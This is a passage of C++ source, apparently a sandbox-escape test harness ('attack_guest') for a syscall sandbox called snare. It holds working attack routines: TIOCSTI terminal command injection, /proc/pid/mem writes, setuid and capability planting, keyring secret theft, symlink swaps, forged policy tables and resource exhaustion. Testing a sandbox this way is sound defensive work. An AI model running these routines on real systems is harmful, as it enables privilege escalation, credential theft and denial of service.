        uint32_t s = __atomic_load_n(&f.state, __ATOMIC_ACQUIRE);
        if (sys::PhaseOf(s) != sys::kFrameRequest) continue;
        const uint32_t reply = sys::ReplyState(sys::kActionPassthrough, false);
        if (!__atomic_compare_exchange_n(&f.state, &s, reply, false, __ATOMIC_SEQ_CST,
                                         __ATOMIC_RELAXED)) {
          continue;
        }
        if (s & sys::kStateStubWaiting)
          syscall(SYS_futex, &f.state, FUTEX_WAKE, 1, nullptr, nullptr, 0);
        a->answered.fetch_add(1, std::memory_order_relaxed);
      }
    }
    return nullptr;
  };
  if (pthread_create(&thread, nullptr, body, &answerer) != 0) {
    Say("pthread_create failed");
    return 0;
  }
  while (!answerer.ready) sched_yield();
  const uint64_t real_gs = reinterpret_cast<uint64_t>(real_slot);
  const StubGlobals saved = *g;
  Say("g_stub at 0x%lx: header -> fake region %p, GS -> its slot 0", g_stub_addr, fake);
  KernelSigaction act = OwnSigsysAction(reinterpret_cast<uint64_t>(&OwnRestorer));
  long r;
  {
    g->header = h;
    g->mode = sys::Mode::kSystrap;  // decisions come from the fake frames, also under inproc
    if (HaveFsgsbase()) {
      WriteGsBase(reinterpret_cast<uint64_t>(fake_slot));
    } else {
      GadgetSyscall(SYS_arch_prctl, ARCH_SET_GS, reinterpret_cast<long>(fake_slot));
    }
    r = Raw(SYS_rt_sigaction, SIGSYS, reinterpret_cast<long>(&act), 0, 8);
    *g = saved;
    if (HaveFsgsbase()) {
      WriteGsBase(real_gs);
    } else {
      GadgetSyscall(SYS_arch_prctl, ARCH_SET_GS, static_cast<long>(real_gs));
    }
  }
  answerer.stop = true;
  pthread_join(thread, nullptr);
  Say("rt_sigaction(SIGSYS, own handler) through the fake header = %ld %s (%ld fake answers)", r,
      ErrnoName(r), answerer.answered.load());
  PlainSyscallCheck();
  return 0;
}

int ProcMem() {
  if (!Prologue()) return 0;
  std::vector<pid_t> targets = SnareProcesses();
  if (targets.empty()) Say("found no other process of this snare run");
  for (pid_t pid : targets) {
    const std::string dir = "/proc/" + std::to_string(pid);
    uint64_t addr = 0;
    for (const Mapping& m : Maps(dir + "/maps")) {
      if (m.perms == "rw-p") {
        addr = m.start;
        break;
      }
    }
    int fd = open((dir + "/mem").c_str(), O_RDWR | O_CLOEXEC);
    if (fd < 0) {
      Say("pid %d (%s): open mem: %s", pid, ReadStat(std::to_string(pid)).comm.c_str(),
          strerrorname_np(errno));
      continue;
    }
    unsigned char byte = 0;
    ssize_t n = addr ? pread(fd, &byte, 1, static_cast<off_t>(addr)) : -1;
    if (n != 1) {
      Say("pid %d: no readable writable mapping (addr 0x%lx: %s)", pid, addr,
          strerrorname_np(errno));
      close(fd);
      continue;
    }
    n = pwrite(fd, &byte, 1, static_cast<off_t>(addr));
    if (n == 1) {
      Say("wrote-mem %d (0x%lx, %s)", pid, addr, ReadStat(std::to_string(pid)).comm.c_str());
    } else {
      Say("pid %d: pwrite mem: %s", pid, strerrorname_np(errno));
    }
    close(fd);
  }
  return 0;
}

int KillHost(const char* pid_arg) {
  if (!Prologue()) return 0;
  pid_t pid = static_cast<pid_t>(atoi(pid_arg));
  long r = Raw(SYS_kill, pid, SIGKILL);
  Say("kill(%d, SIGKILL) = %ld %s", pid, r, ErrnoName(r));
  return 0;
}

int Tiocsti() {
  if (!Prologue()) return 0;
  const char text[] = "echo snare-tiocsti-pwned\n";
  std::vector<int> fds = {0, 1, 2};
  int tty = open("/dev/tty", O_RDWR | O_CLOEXEC);
  if (tty >= 0) {
    fds.push_back(tty);
  } else {
    Say("open /dev/tty: %s", strerrorname_np(errno));
  }
  for (int fd : fds) {
    int injected = 0;
    long err = 0;
    for (const char* c = text; *c; ++c) {
      long r = Raw(SYS_ioctl, fd, TIOCSTI, reinterpret_cast<long>(c));
      if (r != 0) {
        err = r;
        break;
      }
      ++injected;
    }
    Say("fd %d%s: %d of %zu bytes injected%s%s", fd, fd == tty ? " (/dev/tty)" : "", injected,
        strlen(text), err ? ", then " : "", err ? ErrnoName(err) : "");
  }
  return 0;
}

int Tcooff() {
  if (!Prologue()) return 0;
  long r = Raw(SYS_ioctl, 2, TCXONC, TCOOFF);
  Say("ioctl(2, TCXONC, TCOOFF) = %ld %s", r, ErrnoName(r));
  for (int i = 0; i < 20000; ++i) Raw(SYS_getppid);
  Say("done: 20000 getppid");
  return 0;
}

int ForgeStats() {
  if (!RegionPrologue()) return 0;
  for (int i = 0; i < 1000; ++i) Raw(SYS_getppid);
  sys::Slot* slot = FindOwnSlot();
  if (!slot) return 0;
  const uint32_t index = SlotIndexOf(slot);
  Say("1000 getppid done; slot %u: counters getppid -> 424242, everything else -> 0", index);
  void* base = reinterpret_cast<void*>(sys::kSharedBase);
  for (uint32_t i = 0; i < sys::kMaxSlots; ++i)
    memset(sys::StatsAt(base, i), 0, sizeof(sys::SlotStats));
  sys::StatsAt(base, index)->per_nr[SYS_getppid].calls = 424242;
  syscall(SYS_exit_group, 0);
  return 0;
}

int TraceNonblock() {
  if (!Prologue()) return 0;
  long flags = Raw(SYS_fcntl, 2, F_GETFL);
  long r = Raw(SYS_fcntl, 2, F_SETFL, flags | O_NONBLOCK);
  Say("fcntl(2, F_SETFL, O_NONBLOCK) = %ld %s", r, ErrnoName(r));
  for (int i = 0; i < 50000; ++i) Raw(SYS_getppid);
  Say("done: 50000 getppid");
  return 0;
}

int TraceTruncate(const char* trace_file) {
  if (!Prologue()) return 0;
  for (int i = 0; i < 1000; ++i) Raw(SYS_getppid);
  long fd = Raw(SYS_openat, AT_FDCWD, reinterpret_cast<long>(trace_file), O_WRONLY | O_TRUNC);
  long t = fd >= 0 ? Raw(SYS_ftruncate, fd, 0) : fd;
  if (fd >= 0) close(static_cast<int>(fd));
  for (int i = 0; i < 10; ++i) Raw(SYS_getppid);
  Say("open(%s, O_WRONLY|O_TRUNC) = %ld %s; ftruncate = %ld %s", trace_file, fd, ErrnoName(fd), t,
      ErrnoName(t));
  return 0;
}

int StatsSymlink(const char* victim, const char* stats_file) {
  if (!Prologue()) return 0;
  // snare's pid: among our ancestors, or any `snare run` working in our directory.
  std::vector<pid_t> candidates;
  for (pid_t pid : SnareProcesses()) {
    if (IsSnareRun(pid)) candidates.push_back(pid);
  }
  char cwd[4096] = {};
  if (!getcwd(cwd, sizeof(cwd) - 1)) cwd[0] = 0;
  if (DIR* d = opendir("/proc")) {
    while (dirent* e = readdir(d)) {
      pid_t pid = static_cast<pid_t>(atoi(e->d_name));
      if (pid <= 0 || !IsSnareRun(pid)) continue;
      char link[4096] = {};
      std::string at = "/proc/" + std::to_string(pid) + "/cwd";
      if (readlink(at.c_str(), link, sizeof(link) - 1) <= 0 || strcmp(link, cwd) != 0) continue;
      bool known = false;
      for (pid_t c : candidates) known |= c == pid;
      if (!known) candidates.push_back(pid);
    }
    closedir(d);
  }
  if (candidates.empty()) Say("found no snare process");
  for (pid_t pid : candidates) {
    std::string name = std::string(stats_file) + ".tmp." + std::to_string(pid);
    long r = Raw(SYS_symlink, reinterpret_cast<long>(victim), reinterpret_cast<long>(name.c_str()));
    Say("symlink %s -> %s = %ld %s", name.c_str(), victim, r, ErrnoName(r));
  }
  return 0;
}

int MkdiratAlias(const char* dir) {
  if (!Prologue()) return 0;
  long r = Raw(SYS_mkdirat, AT_FDCWD, reinterpret_cast<long>(dir), 0755);
  Say("mkdirat(AT_FDCWD, %s) = %ld %s; exists: %s", dir, r, ErrnoName(r),
      Exists(dir) ? "yes" : "no");
  return 0;
}

int OpenAlias(const char* file) {
  if (!Prologue()) return 0;
  long fd = Raw(SYS_openat, AT_FDCWD, reinterpret_cast<long>(file), O_RDONLY);
  if (fd < 0) {
    Say("openat(AT_FDCWD, %s) = %ld %s", file, fd, ErrnoName(fd));
    return 0;
  }
  char buf[256] = {};
  long n = Raw(SYS_read, fd, reinterpret_cast<long>(buf), sizeof(buf) - 1);
  Say("openat(AT_FDCWD, %s) = fd %ld; content: %s", file, fd, n > 0 ? buf : "(none)");
  return 0;
}

// A syscall site of this program's own, `mov $nr, %eax; syscall` as the patcher knows it,
// its `mov` at offset 3 of a 16-byte block (patched with one store).
extern "C" long MkdirSite(const char* path, long mode);
asm(R"(
  .text
  .p2align 4
  .globl MkdirSite
MkdirSite:
  mov %rcx, %r10
  mov $83, %eax
  syscall
  ret
)");

int ForgedPolicy(const char* dir) {
  if (!RegionPrologue()) return 0;
  sys::Header* h = sys::HeaderAt(reinterpret_cast<void*>(sys::kSharedBase));
  h->stub_decides = 1;
  snare::policy::SyscallEntry& e = h->policy.entries[SYS_mkdir];
  e.rule_count = 0;
  e.fallback = {snare::policy::Action::kPassthrough, 0};
  Say("policy table: mkdir -> passthrough, stub decides patched calls");
  int made = 0;
  long last = 0;
  for (int i = 0; i < 100; ++i) {
    last = MkdirSite(dir, 0755);
    made += last == 0;
  }
  const bool patched = reinterpret_cast<const uint8_t*>(&MkdirSite)[3] != 0xb8;
  Say("mkdir(%s) x100 from %s site: %d made it, the last = %ld %s", dir,
      patched ? "a patched" : "an unpatched", made, last, ErrnoName(last));
  return 0;
}

int Usage();

// SRC's bytes into fd.
bool CopyInto(const char* src, int fd) {
  const std::string bytes = ReadFile(src);
  return !bytes.empty() &&
         write(fd, bytes.data(), bytes.size()) == static_cast<ssize_t>(bytes.size());
}

int SetuidFile(const char* src) {
  if (!Prologue()) return 0;
  constexpr long kMode = 06755;
  auto plain = [&](const char* name) {
    int fd = open(name, O_WRONLY | O_CREAT | O_TRUNC, 0755);
    bool ok = fd >= 0 && CopyInto(src, fd);
    if (fd >= 0) close(fd);
    return ok;
  };
  auto report = [](const char* way, long r) { Say("%s: %s", way, ErrnoName(r)); };
  if (plain("suid-chmod")) {
    report("chmod", Raw(SYS_chmod, reinterpret_cast<long>("suid-chmod"), kMode));
  }
  if (plain("suid-fchmod")) {
    int fd = open("suid-fchmod", O_RDONLY);
    report("fchmod", Raw(SYS_fchmod, fd, kMode));
    close(fd);
  }
  if (plain("suid-fchmodat")) {
    report("fchmodat", Raw(SYS_fchmodat, AT_FDCWD, reinterpret_cast<long>("suid-fchmodat"), kMode));
  }
  if (plain("suid-fchmodat2")) {
    report("fchmodat2", Raw(452, AT_FDCWD, reinterpret_cast<long>("suid-fchmodat2"), kMode, 0));
  }
  // Created with the bits: the file is written through the fd open returned.
  auto created = [&](const char* way, long fd) {
    report(way, fd);
    if (fd >= 0) {
      CopyInto(src, static_cast<int>(fd));
      close(static_cast<int>(fd));
    }
  };
  created("open", Raw(SYS_open, reinterpret_cast<long>("suid-open"), O_WRONLY | O_CREAT, kMode));
  created("openat", Raw(SYS_openat, AT_FDCWD, reinterpret_cast<long>("suid-openat"),
                        O_WRONLY | O_CREAT, kMode));
  created("creat", Raw(SYS_creat, reinterpret_cast<long>("suid-creat"), kMode));
  struct {
    uint64_t flags, mode, resolve;
  } how = {O_WRONLY | O_CREAT, kMode, 0};
  created("openat2", Raw(SYS_openat2, AT_FDCWD, reinterpret_cast<long>("suid-openat2"),
                         reinterpret_cast<long>(&how), sizeof(how)));
  const long made =
      Raw(SYS_mknodat, AT_FDCWD, reinterpret_cast<long>("suid-mknod"), S_IFREG | kMode, 0);
  report("mknod", made);
  if (made == 0)
    created("mknod's file", Raw(SYS_open, reinterpret_cast<long>("suid-mknod"), O_WRONLY));
  // A file capability: VFS_CAP_REVISION_2 with CAP_SETUID (7) permitted and effective.
  if (plain("cap-setxattr")) {
    const uint32_t cap[5] = {0x02000000 | 1, 1u << 7, 0, 0, 0};
    report("setxattr security.capability", Raw(SYS_setxattr, reinterpret_cast<long>("cap-setxattr"),
                                               reinterpret_cast<long>("security.capability"),
                                               reinterpret_cast<long>(cap), sizeof(cap), 0));
  }
  return 0;
}

int PlantSymlink(const char* name, const char* target) {
  if (!Prologue()) return 0;
  std::string away = std::string(name) + ".away";
  long r = Raw(SYS_rename, reinterpret_cast<long>(name), reinterpret_cast<long>(away.c_str()));
  Say("rename %s: %s", name, ErrnoName(r));
  r = Raw(SYS_symlink, reinterpret_cast<long>(target), reinterpret_cast<long>(name));
  Say("symlink %s -> %s: %s", name, target, ErrnoName(r));
  return 0;
}

int WriteFile(const char* path) {
  if (!Prologue()) return 0;
  int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
  Say("create %s: %s", path, ErrnoName(fd < 0 ? -errno : fd));
  if (fd >= 0) {
    (void)!write(fd, "written by the guest\n", 21);
    close(fd);
  }
  return 0;
}

// While snare runs: a directory snare will write into at exit becomes a link elsewhere.
int SwapForSymlink(const char* dir, const char* target) { return PlantSymlink(dir, target); }

constexpr long kKeySpecSessionKeyring = -3;  // KEY_SPEC_SESSION_KEYRING
constexpr long kKeyctlJoinSession = 1, kKeyctlSearch = 10, kKeyctlRead = 11;

int KeyringSteal(const char* desc) {
  if (!Prologue()) return 0;
  long key = Raw(SYS_keyctl, kKeyctlSearch, kKeySpecSessionKeyring, reinterpret_cast<long>("user"),
                 reinterpret_cast<long>(desc), 0);
  Say("search %s: %s", desc, ErrnoName(key));
  if (key < 0) {
    key = Raw(SYS_request_key, reinterpret_cast<long>("user"), reinterpret_cast<long>(desc), 0, 0);
    Say("request_key %s: %s", desc, ErrnoName(key));
  }
  if (key > 0) {
    char payload[256] = {};
    long n =
        Raw(SYS_keyctl, kKeyctlRead, key, reinterpret_cast<long>(payload), sizeof(payload) - 1);
    if (n > 0) Say("stolen-key: %.*s", static_cast<int>(std::min<long>(n, 255)), payload);
  }
  long planted =
      Raw(SYS_add_key, reinterpret_cast<long>("user"), reinterpret_cast<long>("snare-planted"),
          reinterpret_cast<long>("x"), 1, kKeySpecSessionKeyring);
  Say("add_key: %s", ErrnoName(planted));
  return 0;
}

int WithSessionKey(int argc, char** argv) {
  // argv: with_session_key DESC SECRET -- ARGV...
  if (argc < 6 || strcmp(argv[4], "--") != 0) return Usage();
  if (Raw(SYS_keyctl, kKeyctlJoinSession, reinterpret_cast<long>("snare-escape-test")) < 0 ||
      Raw(SYS_add_key, reinterpret_cast<long>("user"), reinterpret_cast<long>(argv[2]),
          reinterpret_cast<long>(argv[3]), static_cast<long>(strlen(argv[3])),
          kKeySpecSessionKeyring) < 0) {
    fprintf(stderr, "with_session_key: %s\n", strerror(errno));
    return 125;
  }
  fflush(stdout);
  const pid_t child = fork();
  if (child == 0) {
    execv(argv[5], argv + 5);
    _exit(127);
  }
  int status = 0;
  waitpid(child, &status, 0);
  if (Raw(SYS_keyctl, kKeyctlSearch, kKeySpecSessionKeyring, reinterpret_cast<long>("user"),
          reinterpret_cast<long>("snare-planted"), 0) > 0) {
    printf("host-sees-planted-key\n");
  }
  return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
}

int FdEscape(const char* fd_text, const char* file) {
  if (!Prologue()) return 0;
  const int fd = atoi(fd_text);
  long r = Raw(SYS_openat, fd, reinterpret_cast<long>(file), O_RDONLY);
  Say("openat(%d, %s): %s", fd, file, ErrnoName(r));
  if (r >= 0) {
    char buf[256] = {};
    const ssize_t n = read(static_cast<int>(r), buf, sizeof(buf) - 1);
    if (n > 0) Say("read: %.*s", static_cast<int>(n), buf);
    close(static_cast<int>(r));
  }
  r = Raw(SYS_fchdir, fd);
  Say("fchdir(%d): %s", fd, ErrnoName(r));
  if (r == 0) {
    const long made = Raw(SYS_open, reinterpret_cast<long>("escaped"), O_WRONLY | O_CREAT, 0644);
    Say("create escaped: %s", ErrnoName(made));
  }
  return 0;
}

int UnixConnect(const char* path) {
  if (!Prologue()) return 0;
  const int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  sockaddr_un addr = {};
  addr.sun_family = AF_UNIX;
  strncpy(addr.sun_path, path, sizeof(addr.sun_path) - 1);
  const long r = Raw(SYS_connect, fd, reinterpret_cast<long>(&addr), sizeof(addr));
  Say("connect %s: %s", path, ErrnoName(r));
  if (r == 0) {
    const long sent = Raw(SYS_write, fd, reinterpret_cast<long>("guest-was-here\n"), 15);
    Say("write: %s", ErrnoName(sent));
  }
  close(fd);
  return 0;
}

int FillTmpfs() {
  if (!Prologue()) return 0;
  static char block[1 << 20];
  memset(block, 'x', sizeof(block));
  uint64_t total = 0;
  for (const char* dir : {"/tmp", "/run", "/dev/shm"}) {
    const std::string path = std::string(dir) + "/fill";
    int fd = open(path.c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0600);
    if (fd < 0) {
      Say("open %s: %s", path.c_str(), strerror(errno));
      continue;
    }
    for (int i = 0; i < 96; ++i) {
      const ssize_t n = write(fd, block, sizeof(block));
      if (n <= 0) break;
      total += static_cast<uint64_t>(n);
    }
    close(fd);
  }
  Say("filled %llu", static_cast<unsigned long long>(total));
  return 0;
}

int HogMemory(const char* procs_arg, const char* mib_arg) {
  if (!Prologue()) return 0;
  const int procs = atoi(procs_arg);
  const size_t bytes = static_cast<size_t>(atol(mib_arg)) << 20;
  int report[2];
  if (pipe(report) != 0) return 1;
  std::vector<pid_t> kids;
  for (int i = 0; i < procs; ++i) {
    const pid_t pid = fork();
    if (pid == 0) {
      close(report[0]);
      auto* p = static_cast<char*>(
          mmap(nullptr, bytes, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0));
      if (p == MAP_FAILED) _exit(1);
      for (size_t off = 0; off < bytes; off += 4096) p[off] = 1;
      const char index = static_cast<char>(i);
      (void)!write(report[1], &index, 1);
      for (;;) pause();
    }
    if (pid > 0) kids.push_back(pid);
  }
  close(report[1]);
  // Each child either holds its share (its index byte came) or is gone (OOM-killed, or its
  // mmap refused): wait until every one is one or the other.
  std::vector<bool> holds(kids.size()), dead(kids.size());
  for (int waited_ms = 0; waited_ms < 60000; waited_ms += 50) {
    char index;
    pollfd pfd = {report[0], POLLIN, 0};
    while (poll(&pfd, 1, 0) > 0 && (pfd.revents & POLLIN) && read(report[0], &index, 1) == 1) {
      if (index >= 0 && static_cast<size_t>(index) < kids.size()) holds[index] = true;
    }
    for (pid_t pid; (pid = waitpid(-1, nullptr, WNOHANG)) > 0;) {
      const auto at = std::find(kids.begin(), kids.end(), pid);
      if (at != kids.end()) dead[at - kids.begin()] = true;
    }
    size_t settled = 0;
    for (size_t i = 0; i < kids.size(); ++i) settled += holds[i] || dead[i];
    if (settled == kids.size()) break;
    usleep(50000);
  }
  size_t held = 0;
  for (size_t i = 0; i < kids.size(); ++i) held += holds[i] && !dead[i];
  Say("held together %zu MiB (%zu of %d processes)", held * (bytes >> 20), held, procs);
  for (pid_t pid : kids) kill(pid, SIGKILL);
  while (wait(nullptr) > 0) {
  }
  return 0;
}

int ForkMany(const char* n_arg) {
  if (!Prologue()) return 0;
  const int n = atoi(n_arg);
  std::vector<pid_t> kids;
  for (int i = 0; i < n; ++i) {
    const pid_t pid = fork();
    if (pid == 0) {
      for (;;) pause();
    }
    if (pid < 0) break;
    kids.push_back(pid);
  }
  Say("forked %zu of %d", kids.size(), n);
  for (pid_t pid : kids) kill(pid, SIGKILL);
  while (wait(nullptr) > 0) {
  }
  return 0;
}

int Usage() {
  fprintf(stderr, "usage: attack_guest ATTACK ARGS... (see the source for the attacks)\n");
  return 2;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc < 2) return Usage();
  const std::string attack = argv[1];
  g_attack = argv[1];
  const char* arg = argc > 2 ? argv[2] : nullptr;
  // "$NAME": the path comes from the environment, as a guest that knows it would have it;
  // snare shows paths named on its command line to the guest.
  if (arg && arg[0] == '$') arg = getenv(arg + 1);
  if (attack == "selftest") return Selftest();
  if (attack == "frame_toctou") return FrameToctou();
  if (attack == "fake_header") return FakeHeader();
  if (attack == "frame_nr_forge") return FrameNrForge();
  if (attack == "proc_mem") return ProcMem();
  if (attack == "tiocsti") return Tiocsti();
  if (attack == "tcooff") return Tcooff();
  if (attack == "forge_stats") return ForgeStats();
  if (attack == "trace_nonblock") return TraceNonblock();
  if (attack == "fill_tmpfs") return FillTmpfs();
  if (!arg) return Usage();
  if (attack == "gadget_mkdir") return GadgetMkdir(arg);
  if (attack == "sigreturn_gadget") return SigreturnGadget(arg);
  if (attack == "gadget_sigaction") return GadgetSigaction(arg);
  if (attack == "kill_host") return KillHost(arg);
  if (attack == "trace_truncate") return TraceTruncate(arg);
  if (attack == "stats_symlink") return StatsSymlink(arg, argc > 3 ? argv[3] : "stats.json");
  if (attack == "mkdirat_alias") return MkdiratAlias(arg);
  if (attack == "open_alias") return OpenAlias(arg);
  if (attack == "forged_policy") return ForgedPolicy(arg);
  if (attack == "setuid_file") return SetuidFile(arg);
  if (attack == "write_file") return WriteFile(arg);
  if (attack == "fork_many") return ForkMany(arg);
  if (attack == "keyring_steal") return KeyringSteal(arg);
  if (attack == "unix_connect") return UnixConnect(arg);
  if (attack == "with_session_key") return WithSessionKey(argc, argv);
  if (argc < 4) return Usage();
  if (attack == "plant_symlink") return PlantSymlink(arg, argv[3]);
  if (attack == "swap_for_symlink") return SwapForSymlink(arg, argv[3]);
  if (attack == "fd_escape") return FdEscape(arg, argv[3]);
  if (attack == "hog_memory") return HogMemory(arg, argv[3]);
  return Usage();
}
